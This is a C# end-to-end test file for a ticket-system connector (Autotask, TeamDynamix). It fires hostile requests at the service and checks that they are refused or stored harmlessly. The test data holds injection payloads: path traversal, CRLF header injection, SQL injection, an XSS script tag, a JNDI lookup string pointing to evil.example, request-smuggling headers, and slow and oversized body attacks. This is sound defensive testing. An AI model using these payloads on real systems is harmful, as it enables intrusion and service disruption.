using FunctionsConnector.EndToEnd.Tests.Autotask;
using FunctionsConnector.EndToEnd.Tests.Hostile.Raw;

namespace FunctionsConnector.EndToEnd.Tests.Hostile;

/// <summary>Malicious requests. They use plain sockets, because an HTTP client does not send some of them.</summary>
public class HostileInputTests
{
    private const string Key = $"x-api-key: {World.ApiKey}\r\n";
    private const string Rename = """{"field":"title","value":"renamed"}""";

    private static readonly string[] Pieces =
    [
        "..", "%2e%2e", "..%2F..", "%2F", "%5C", "..%5C..", "%252F", "%0D%0A", "%0D%0AX-Injected:%201", "%00", "%E2%80%AE", "%ED%A0%80", "%C3%28", "%3F", "%23", "%3Fx=1", "@evil.example",
        "Tickets%2F1", "1%2Fquery", "1;drop", "1%20or%201", "1e3", "-1", "+1", "0x1", "%D9%A1", "1.0", "99999999999999999999", "a1b2c3d4-0000-1111-2222-33334444555g",
    ];

    private static readonly string[] Places = ["system", "recordType", "recordId"];

    public static TheoryData<string, string> PathPieces =>
    [
        .. from piece in Pieces
           from place in Places
           where place == "recordId" || (piece != "-1" && piece != "1e3")
           select new TheoryDataRow<string, string>(place, piece),
    ];

    [Theory]
    [MemberData(nameof(PathPieces))]
    public async Task An_invalid_name_or_id_is_never_part_of_a_vendors_path(string place, string piece)
    {
        await using var world = await World.StartAsync();
        foreach (var system in new[] { "autotask", "teamdynamix" })
        {
            var (recordType, recordId) = system == "autotask" ? ("Tickets", "1") : ("tickets-42", "1001");
            var path = place switch
            {
                "system" => $"/api/systems/{piece}/records/{recordType}/{recordId}",
                "recordType" => $"/api/systems/{system}/records/{piece}/{recordId}",
                _ => $"/api/systems/{system}/records/{recordType}/{piece}",
            };
            foreach (var (method, target, body) in new[] { ("GET", path, string.Empty), ("PATCH", $"{path}/field", Rename) })
            {
                var reply = await SendAsync(world, $"{method} {target} HTTP/1.1", body);

                if (!reply.IsOfTheServer)
                {
                    reply.Status.ShouldBeOneOf([400, 404, 405], reply.Text);
                    reply.Header("X-Injected").ShouldBeNull();
                    reply.Json.GetProperty("error").GetProperty("message").GetString()!.ShouldNotContain('\r');
                }
            }
        }

        // Only the list of record types may be read, to look up the name.
        world.Sandbox.Autotask.Calls.Count.ShouldBe(0);
        world.Sandbox.TeamDynamix.Calls.All.Select(call => call.PathAndQuery.Split('/')[^1]).Distinct().ShouldBeSubsetOf(["loginadmin", "applications"]);
        world.Log.Lines.ShouldAllBe(line => !line.Any(char.IsControl));
    }

    [Theory]
    [InlineData("../title")]
    [InlineData("title\\r\\nX-Injected: 1")]
    [InlineData("/Title")]
    [InlineData("attributes/9001")]
    [InlineData("attributes/-")]
    [InlineData("userDefinedFields")]
    [InlineData("title\\u0000")]
    [InlineData("title\\u202e")]
    [InlineData("title 1")]
    [InlineData("{\\\"id\\\":2}")]
    [InlineData("id")]
    [InlineData("ID")]
    public async Task An_unknown_field_name_is_never_sent(string field)
    {
        await using var world = await World.StartAsync();

        foreach (var (system, record) in new[] { ("autotask", "Tickets/1"), ("teamdynamix", "tickets-42/1001") })
        {
            var reply = await world.PatchAsync($"/api/systems/{system}/records/{record}/field", $$"""{"field":"{{field}}","value":"1"}""");

            reply.ShouldFail(422, "UpdateInvalid");
            reply.Message.Any(char.IsControl).ShouldBeFalse();
            reply.Message.ShouldNotContain("\u202E");
        }

        world.Sandbox.Autotask.Calls.All.ShouldAllBe(call => call.Method == "GET");
        world.Sandbox.TeamDynamix.Calls.All.ShouldAllBe(call => call.Method != "PATCH");
    }

    [Theory]
    [InlineData("../../x%2F%00")]
    [InlineData("one\r\nX-Injected: 1\r\n\r\nPATCH /x HTTP/1.1")]
    [InlineData("\",\"id\":2,\"status\":\"5")]
    [InlineData("'; DROP TABLE tickets; --")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("\u202Egnorw\u200F \u2028 🎫 é ﷽")]
    [InlineData("${jndi:ldap://evil.example/x}{{7*7}}")]
    [InlineData("@triggerBody()")]
    public async Task A_value_is_stored_unchanged(string value)
    {
        await using var world = await World.StartAsync();
        var before = world.Sandbox.Autotask.Truth("Tickets", 1);

        (await world.UpdateFieldAsync("Tickets", 1, $$"""{"field":"title","value":{{JsonSerializer.Serialize(value)}}}""")).ShouldSay("applied");
        (await world.UpdateFieldsAsync("teamdynamix", "tickets-42", "1001", $$$"""{"fields":{"Title":{{{JsonSerializer.Serialize(value)}}}}}""")).ShouldSay("applied");

        var after = world.Sandbox.Autotask.Truth("Tickets", 1);
        Truths.Changed(before, after).ShouldBe(["title"]);
        Truths.Value(after, "title").ShouldBe(value);
        world.Sandbox.TeamDynamix.Truth("tickets-42", 1001)["Title"]!.ToString().ShouldBe(value);
        world.Sandbox.Autotask.Calls.All.Concat(world.Sandbox.TeamDynamix.Calls.All).ShouldAllBe(call => !call.Headers.ContainsKey("X-Injected"));
        world.Log.Lines.ShouldAllBe(line => !line.Any(char.IsControl));
    }

    [Theory]
    [InlineData("""{"field":"title","value":"a","Value":"b"}""", 400)]
    [InlineData("""{"field":"title","value":"a","value":"b"}""", 400)]
    [InlineData("""{"field":"title","value":"a","\u0076alue":"b"}""", 400)]
    [InlineData("""{"field":"title","value":"a","FIELD":"status"}""", 400)]
    [InlineData("""{"field":"title","value":{"a":1,"a":2}}""", 400)]
    [InlineData("""{"field":"title","value":"\ud800"}""", 400)]
    [InlineData("""{"field":"title","value":"\u0000"}""", 422)]
    [InlineData("""{"field":"estimatedHours","value":1e400}""", 422)]
    [InlineData("""{"field":"estimatedHours","value":-1E+999999999}""", 422)]
    [InlineData("""{"field":"estimatedHours","value":123456789012345678901234567890123}""", 422)]
    [InlineData("""{"field":"estimatedHours","value":"0.1234567890123456789012345678901234567890"}""", 422)]
    [InlineData("""{"field":"estimatedHours","value":NaN}""", 400)]
    [InlineData("""{"field":"estimatedHours","value":0x10}""", 400)]
    [InlineData("""{"field":"companyID","value":9223372036854775808}""", 422)]
    [InlineData("""{"field":"companyID","value":1.5}""", 422)]
    [InlineData("""{"field":"dueDateTime","value":"+12026-01-01"}""", 422)]
    [InlineData("""{"field":"title","value":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["x"]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}""", 400)]
    public async Task An_ambiguous_or_invalid_body_changes_nothing(string body, int status)
    {
        await using var world = await World.StartAsync();

        (await world.PatchAsync("/api/systems/autotask/records/Tickets/1/field", body)).Status.ShouldBe(status);

        world.PatchesSent.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("x-ms-client-request-id", "one\u00c2\u0085two")]
    [InlineData("x-ms-client-request-id", "\u00e2\u0080\u00aereversed")]
    [InlineData("x-ms-workflow-run-id", "\tInformation UpdateField by everybody: applied")]
    [InlineData("x-ms-action-tracking-id", World.LimitedKey)]
    public async Task Callers_ids_stay_within_one_line_of_the_log(string header, string value)
    {
        await using var world = await World.StartAsync();

        var reply = await SendAsync(world, "GET /api/systems HTTP/1.1", string.Empty, $"{header}: {value}\r\n");

        reply.Status.ShouldBe(200);
        world.Log.Lines.Where(line => line.Contains("ListSystems", StringComparison.Ordinal)).ShouldHaveSingleItem();
        world.Log.Lines.ShouldAllBe(line => !line.Any(char.IsControl) && !line.Contains('\u202E'));
    }

    [Theory]
    [InlineData("GET /api/systems HTTP/1.1", "X: a\rb\r\n")]
    [InlineData("GET /api/systems HTTP/1.1", "X: a\0b\r\n")]
    [InlineData("GET /api/systems HTTP/1.1", "X: a\r\n folded\r\n")]
    [InlineData("GET /api/systems HTTP/1.1", "Content-Length: 5\r\nContent-Length: 6\r\n")]
    [InlineData("GET /api/systems HTTP/1.1", "Content-Length: -1\r\n")]
    [InlineData("GET /api/systems HTTP/1.1", "Content-Length: 5\r\nTransfer-Encoding: identity\r\n")]
    [InlineData("GET /api/systems%00 HTTP/1.1", "")]
    [InlineData("GET /api/\0 HTTP/1.1", "")]
    [InlineData("GET http://evil.example:99999/ HTTP/1.1", "")]
    [InlineData("GET systems.json HTTP/1.1", "")]
    [InlineData("GET /api/systems HTTP/9.9", "")]
    public async Task Invalid_HTTP_is_refused_by_the_server_without_a_logged_action(string line, string header)
    {
        await using var world = await World.StartAsync();

        var reply = await SendAsync(world, line, string.Empty, header);

        reply.IsOfTheServer.ShouldBeTrue($"{reply.Status} {reply.Text}");
        world.Log.Lines.ShouldAllBe(one => !one.Contains("ListSystems", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_slow_body_is_refused()
    {
        await using var world = await World.StartAsync(World.Quick with { Body = TimeSpan.FromMilliseconds(300) });
        using var time = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        using var connection = await RawConnection.OpenAsync(world.Url, time.Token);
        await connection.SendAsync(
            Encoding.ASCII.GetBytes($"PATCH /api/systems/autotask/records/Tickets/1/field HTTP/1.1\r\nHost: x\r\n{Key}Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"),
            time.Token);
        using var trickling = new CancellationTokenSource();
        var trickle = TrickleAsync(connection, trickling.Token);

        var reply = await connection.ReadAsync(hasBody: true, time.Token);
        await trickling.CancelAsync();
        await trickle;

        (reply!.Status, reply.Code, reply.Closes).ShouldBe((400, "InvalidRequest", true));
        world.Sandbox.Autotask.Calls.Count.ShouldBe(0);
    }

    [Fact]
    public async Task An_endless_body_is_refused_after_a_megabyte()
    {
        await using var world = await World.StartAsync();
        using var time = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        using var connection = await RawConnection.OpenAsync(world.Url, time.Token);
        await connection.SendAsync(
            Encoding.ASCII.GetBytes($"PATCH /api/systems/autotask/records/Tickets/1/field HTTP/1.1\r\nHost: x\r\n{Key}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"),
            time.Token);
        var chunk = Encoding.ASCII.GetBytes($"10000\r\n{new string(' ', 0x10000)}\r\n");
        for (var sent = 0; sent < 20; sent++)
        {
            await connection.SendAsync(chunk, time.Token);
        }

        var reply = await connection.ReadAsync(hasBody: true, time.Token);

        (reply!.Status, reply.Code).ShouldBe((413, "PayloadTooLarge"));
    }

    private static async Task TrickleAsync(RawConnection connection, CancellationToken cancellationToken)
    {
        try
        {
            while (!cancellationToken.IsCancellationRequested)
            {
                // The delay simulates a slow caller, above the server's minimum rate of 240 bytes a second.
                await connection.SendAsync(new byte[50], cancellationToken);
                await Task.Delay(10, cancellationToken);
            }
        }
        catch (Exception exception) when (exception is OperationCanceledException or IOException)
        {
            // Expected: the server closes the connection.
        }
    }

    private static async Task<RawReply> SendAsync(World world, string line, string body, string header = "")
    {
        using var time = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        var length = body.Length > 0 ? $"Content-Type: application/json\r\nContent-Length: {body.Length}\r\n" : string.Empty;
        return await RawConnection.SendAsync(world.Url, $"{line}\r\nHost: 127.0.0.1\r\n{Key}{length}{header}\r\n{body}", time.Token);
    }
}
